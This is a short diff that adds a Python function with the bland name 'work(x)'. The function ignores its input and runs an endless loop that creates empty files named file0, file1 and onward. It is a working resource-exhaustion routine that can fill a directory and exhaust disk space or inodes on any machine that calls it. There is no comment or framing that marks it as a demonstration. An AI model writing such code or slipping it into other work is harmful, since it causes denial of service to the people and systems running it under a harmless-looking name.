@@ -1,0 +1,5 @@
+def work(x):
+    number = 0
+    while True:
+        open(f"file{number}", "w").close()
+        number += 1
